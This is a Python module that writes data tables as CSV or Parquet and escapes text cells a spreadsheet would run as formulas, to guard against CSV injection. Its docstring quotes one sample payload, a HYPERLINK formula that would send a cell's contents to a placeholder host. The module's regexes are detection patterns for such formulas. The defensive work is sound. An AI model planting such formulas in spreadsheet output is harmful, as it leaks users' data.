"""Every table hipdata writes goes through here: CSV (formula-safe) or Parquet, atomically.

Spreadsheet programs (Excel, LibreOffice Calc, Google Sheets) run a CSV cell as a formula when it
starts with ``=``, ``+``, ``-`` or ``@`` (and tab / carriage return lead to the same in some
import paths): an id such as ``=HYPERLINK("http://x?"&A1)`` in an input file would otherwise
become a live formula in ``quarantine.csv`` or ``audit_indicators.csv`` on a clinic lead's
machine. Following the OWASP guidance on CSV injection, every *text* cell of a CSV written here
that begins with one of those characters gets a leading apostrophe ``'`` (spreadsheets show the
cell as the text after it). Numbers are never touched: columns with a numeric dtype are written
exactly as before, and a text cell that is a plain decimal number (``-3``, ``+2.5``, ``1e-3``)
is left as it is, because a spreadsheet reads it as that number, never as a formula.
"""

from __future__ import annotations

import os
import re
import uuid
from collections.abc import Mapping
from pathlib import Path

import numpy as np
import pandas as pd

FORMATS = {"csv": ".csv", "parquet": ".parquet"}

#: Characters that make a spreadsheet treat a leading cell as a formula (OWASP: ``= + - @``, tab,
#: carriage return), plus their full-width forms, which some spreadsheet locales fold into them.
FORMULA_TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
_SIGNS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
#: A trigger as the first character, or as the first non-blank one (a spreadsheet that trims
#: spaces on import would otherwise see the formula), or right after a ``;``, the separator a
#: spreadsheet in a semicolon locale splits an unquoted cell at.
_LEADING = re.compile(rf"^(?:[\t\r]|\s*[{_SIGNS}])")
_DANGEROUS = re.compile(rf"^(?:[\t\r]|\s*[{_SIGNS}])|;\s*[{_SIGNS}]")
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?$")
_AFTER_SEMICOLON = re.compile(rf"(;\s*)(?=[{_SIGNS}])")


def neutralise_text(values: pd.Series) -> pd.Series:
    """Make text cells inert in a spreadsheet; non-text values are returned unchanged.

    A text cell is escaped when it begins with ``=``, ``+``, ``-``, ``@`` (or their full-width
    forms), a tab or a carriage return, also after leading blanks: it gets a leading apostrophe
    ``'``. A ``;`` followed by such a character inside a cell gets an apostrophe after it too
    (a spreadsheet set to split at ``;`` would start a new cell there). Cells that are plain
    decimal numbers (``-3``, ``+2.5``, ``-1e-3``) are not formulas and stay as they are.

    Parameters
    ----------
    values : Series
        Any column; only its ``str`` elements can change.

    Returns
    -------
    Series
        A copy with the escaped text (same index and, for non-text columns, same dtype).

    Examples
    --------
    >>> import pandas as pd
    >>> neutralise_text(pd.Series(["=1+1", "-2+3", "-3", "@SUM(A1)", "C1", "x;=2"])).tolist()
    ["'=1+1", "'-2+3", '-3', "'@SUM(A1)", 'C1', "x;'=2"]
    """
    if not (
        pd.api.types.is_object_dtype(values.dtype)
        or pd.api.types.is_string_dtype(values.dtype)
        or isinstance(values.dtype, pd.CategoricalDtype)
    ):
        return values
    values = values.astype(object) if isinstance(values.dtype, pd.CategoricalDtype) else values
    if pd.api.types.is_string_dtype(values.dtype) and values.dtype != object:
        # a text dtype (Arrow-backed by default): look at its distinct values before copying it
        distinct = pd.Series(values.unique(), dtype=object).dropna()
        if not _dangerous(distinct).any():
            return values
    cells = values.astype(object)
    if pd.api.types.infer_dtype(cells, skipna=True) in ("string", "empty"):
        is_text = cells.notna().to_numpy()
    else:  # mixed objects: only the str elements are text
        is_text = cells.map(lambda value: isinstance(value, str)).to_numpy(dtype=bool)
    if not is_text.any():
        return values
    # the rules run once per distinct text (ids and names repeat down a table)
    codes, uniques = pd.factorize(cells[is_text])
    distinct = pd.Series(uniques, dtype=object)
    dangerous = _dangerous(distinct)
    if not dangerous.any():
        return values
    fixed = distinct.copy()
    risky = distinct[dangerous]
    escaped = risky.str.replace(_AFTER_SEMICOLON, r"\1'", regex=True)
    fixed[dangerous] = escaped.where(~risky.str.contains(_LEADING), "'" + escaped)
    out = cells.to_numpy(copy=True)
    out[np.flatnonzero(is_text)] = fixed.to_numpy()[codes]
    return pd.Series(out, index=values.index, name=values.name, dtype=object)


def _dangerous(distinct: pd.Series) -> pd.Series:
    """Which of these (str) cells :func:`neutralise_text` escapes."""
    return distinct.str.contains(_DANGEROUS) & ~distinct.str.fullmatch(_PLAIN_NUMBER)


def csv_ready(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` shaped for the contract's CSV conventions, safe to open in a spreadsheet.

    Booleans become ``true`` / ``false`` (missing stays empty), float columns holding only whole
    numbers become nullable integers, so ``3.0`` is written ``3`` (a value written ``3`` reads
    back as the same number), and text cells (and column names) that a spreadsheet would run as
    a formula are escaped by :func:`neutralise_text`. Dates are formatted by
    :func:`write_tables`.
    """
    out = frame.copy()
    for position in range(out.shape[1]):
        values = out.iloc[:, position]
        if pd.api.types.is_bool_dtype(values.dtype):
            words = np.where(values.fillna(False).astype(bool), "true", "false")
            out.isetitem(
                position,
                pd.Series(words, index=out.index, dtype="object").where(values.notna(), None),
            )
        elif pd.api.types.is_float_dtype(values.dtype):
            present = values.dropna()
            if np.isfinite(present).all() and (present == np.round(present)).all():
                out.isetitem(position, values.round().astype("Int64"))
        else:
            out.isetitem(position, neutralise_text(values))
    out.columns = neutralise_text(pd.Series(list(out.columns), dtype=object)).tolist()
    return out


def write_csv(frame: pd.DataFrame, path: str | os.PathLike) -> Path:
    """Write one table as a formula-safe CSV (CONTRACT §5 conventions), atomically.

    The one CSV writer of hipdata: :func:`write_tables`, the CLI and the reports all end here.
    Dates are written ``YYYY-MM-DD``, booleans ``true``/``false``, missing values as empty
    cells, whole-number columns without ``.0``; UTF-8, comma separated, ``\\n`` line ends.
    """
    path = Path(path)
    _atomic(path, lambda temp: _to_csv(frame, temp))
    return path


def _to_csv(frame: pd.DataFrame, target) -> None:
    write_csv_text(csv_ready(frame), target)


#: Characters that make Python's csv writer (``QUOTE_MINIMAL``, ``\n`` line ends) quote a cell,
#: or that Arrow's writer refuses unquoted: a table holding one is written by pandas.
_NEEDS_QUOTES = re.compile(r'[,"\r\n]')


def write_csv_text(
    frame: pd.DataFrame, target, *, float_format: str | None = None, date_format: str = "%Y-%m-%d"
) -> None:
    """Write ``frame`` exactly as ``DataFrame.to_csv`` writes it, fast where Arrow can.

    The text is byte for byte that of ``frame.to_csv(target, index=False, na_rep="",
    lineterminator="\\n", date_format=date_format, float_format=float_format)`` (UTF-8): a
    table whose every column has a kind listed below, and whose names and text cells need no
    quotes, is written by Arrow's C++ CSV writer (:func:`pyarrow.csv.write_csv`) from columns
    prepared to give pandas' text; any other table (or a ``date_format`` other than
    ``"%Y-%m-%d"``) is written by pandas.

    - integers (NumPy or nullable): decimal digits, as both write them;
    - floats (NumPy): without ``float_format``, NumPy's shortest round-trip text (what pandas
      writes, ``str`` of the array); with it, ``float_format % value`` computed once per
      distinct value; NaN empty;
    - booleans: ``True`` / ``False`` (missing empty);
    - text (``str``, or ``object`` holding only ``str``): as is, once checked for ``,``, ``"``,
      carriage returns and line ends, which pandas would quote;
    - dates and times (timezone-naive, years 1000-9999) with ``"%Y-%m-%d"``: the calendar day
      (``datetime64[D]``, which floors as ``strftime`` does); NaT empty.

    Parameters
    ----------
    frame : DataFrame
        The table; its index is not written.
    target : path or binary file
        Where to write.
    float_format : str, optional
        A ``%`` format for floats, as pandas' ``float_format``.
    date_format : str
        As pandas' ``date_format``.
    """
    table = _arrow_text_table(frame, float_format, date_format)
    if table is None:
        frame.to_csv(
            target,
            index=False,
            date_format=date_format,
            float_format=float_format,
            na_rep="",
            lineterminator="\n",
        )
        return
    import pyarrow.csv as pa_csv

    options = pa_csv.WriteOptions(
        include_header=False, batch_size=1 << 16, quoting_style="none", delimiter=","
    )
    header = (",".join(frame.columns) + "\n").encode("utf-8")
    if hasattr(target, "write"):
        target.write(header)
        pa_csv.write_csv(table, target, options)
        return
    with open(target, "wb") as handle:
        handle.write(header)
        pa_csv.write_csv(table, handle, options)


def _arrow_text_table(frame: pd.DataFrame, float_format, date_format):
    """An Arrow table whose CSV text is pandas', or None when that is not certain."""
    import pyarrow as pa

    names = list(frame.columns)
    # One column: Python's csv writer quotes an empty cell alone on its line (``""``).
    if len(names) < 2 or not all(type(name) is str for name in names):
        return None
    if date_format != "%Y-%m-%d" or not (float_format is None or isinstance(float_format, str)):
        return None
    if any(_NEEDS_QUOTES.search(name) for name in names):
        return None
    columns = []
    try:
        for position in range(frame.shape[1]):
            column = _arrow_text_column(frame.iloc[:, position], float_format)
            if column is None:
                return None
            columns.append(column)
    except (pa.ArrowException, UnicodeError):  # e.g. a lone surrogate: pandas raises the error
        return None
    return pa.Table.from_arrays(columns, names=[f"c{i}" for i in range(len(names))])


def _arrow_text_column(values: pd.Series, float_format):
    """One column for :func:`_arrow_text_table`, or None."""
    import pyarrow as pa
    import pyarrow.compute as pc

    dtype = values.dtype
    missing = values.isna().to_numpy()
    if isinstance(dtype, np.dtype) and dtype.kind in "iu":
        return pa.array(values.to_numpy())
    if isinstance(dtype, pd.api.extensions.ExtensionDtype) and dtype.kind in "iu":
        if not isinstance(values.array, pd.arrays.IntegerArray):
            return None
        return pa.array(values.to_numpy(dtype=dtype.numpy_dtype, na_value=0), mask=missing)
    if dtype == np.dtype(bool) or (isinstance(dtype, pd.BooleanDtype)):
        truth = values.to_numpy(dtype=bool, na_value=False)
        words = pa.array(["False", "True"])
        return pa.DictionaryArray.from_arrays(pa.array(truth.astype(np.int8), mask=missing), words)
    if isinstance(dtype, np.dtype) and dtype.kind == "f":
        numbers = values.to_numpy()
        if float_format is None:
            text = numbers.astype(str)
            return pa.array(text, mask=missing)
        # the format once per distinct value (bit pattern: -0.0 and 0.0 are written apart)
        bits = numbers.view(np.dtype(f"i{numbers.dtype.itemsize}"))
        codes, distinct = pd.factorize(bits[~missing])
        words = pa.array(
            [float_format % number for number in distinct.view(numbers.dtype)], type=pa.string()
        )
        indices = np.zeros(len(numbers), dtype=np.int64)
        indices[~missing] = codes
        return pa.DictionaryArray.from_arrays(pa.array(indices, mask=missing), words)
    if isinstance(dtype, np.dtype) and dtype.kind == "M":
        days = values.to_numpy().astype("datetime64[D]")
        present = days[~missing]
        if len(present) and (
            present.min() < np.datetime64("1000-01-01") or present.max() > np.datetime64("9999-12-31")
        ):
            return None
        return pa.array(days.view(np.int64).astype(np.int32), type=pa.date32(), mask=missing)
    is_text = pd.api.types.is_string_dtype(dtype) and not isinstance(dtype, pd.CategoricalDtype)
    if isinstance(dtype, np.dtype) and dtype.kind == "O":
        if pd.api.types.infer_dtype(values, skipna=True) not in ("string", "empty"):
            return None
    elif not is_text:
        return None
    cells = values.array if is_text and not isinstance(dtype, np.dtype) else values.to_numpy()
    text = pa.array(cells, from_pandas=True)
    if isinstance(text, pa.ChunkedArray):
        text = text.combine_chunks()
    if not pa.types.is_string(text.type) and not pa.types.is_large_string(text.type):
        text = text.cast(pa.large_string())
    # the check once per distinct text (ids and names repeat down a table)
    if pc.any(pc.match_substring_regex(text.unique(), _NEEDS_QUOTES.pattern)).as_py():
        return None
    return text


def _atomic(path: Path, write) -> None:
    # A hidden name in the same folder (os.replace is atomic only within one file system); not
    # mkstemp, whose 0600 mode would survive the rename and hide the table from other users.
    temp_name = path.with_name(f".{path.name}.{uuid.uuid4().hex}.tmp")
    try:
        write(temp_name)
        os.replace(temp_name, path)
    except BaseException:
        Path(temp_name).unlink(missing_ok=True)
        raise


def _write_one(frame: pd.DataFrame, path: Path, fmt: str) -> None:
    if fmt == "csv":
        _atomic(path, lambda temp: _to_csv(frame, temp))
    else:
        _atomic(path, lambda temp: frame.to_parquet(temp, index=False))


def write_tables(
    tables: Mapping[str, pd.DataFrame], out_dir: str | os.PathLike, *, format: str = "csv"
) -> dict[str, Path]:
    """Write each table as ``out_dir/<name>.csv`` (or ``.parquet``), creating ``out_dir``.

    Each file is written to a temporary name in ``out_dir`` and moved into place with
    :func:`os.replace`, so a reader never sees a half-written table and a failed write leaves the
    previous file intact. CSV follows CONTRACT §5: dates ``YYYY-MM-DD``, booleans
    ``true``/``false``, missing values empty, whole-number columns without ``.0``; UTF-8, comma
    separated; text cells that a spreadsheet would run as a formula get a leading ``'``
    (:func:`neutralise_text`). Parquet keeps the DataFrame's dtypes and values as they are (it is
    not opened as formulas).

    Parameters
    ----------
    tables : mapping of str to DataFrame
        Table name -> table, e.g. the result of :func:`hipdata.metrics.compute_all`.
    out_dir : path
        The output folder.
    format : {"csv", "parquet"}
        File format.

    Returns
    -------
    dict of str to Path
        Table name -> file written.
    """
    if format not in FORMATS:
        raise ValueError(f"unknown format {format!r}: use one of {', '.join(FORMATS)}")
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    written: dict[str, Path] = {}
    for name, frame in tables.items():
        if not name or Path(name).name != name or name.startswith("."):
            raise ValueError(f"table name {name!r} cannot be used as a file name")
        path = out_dir / f"{name}{FORMATS[format]}"
        _write_one(frame, path, format)
        written[name] = path
    return written
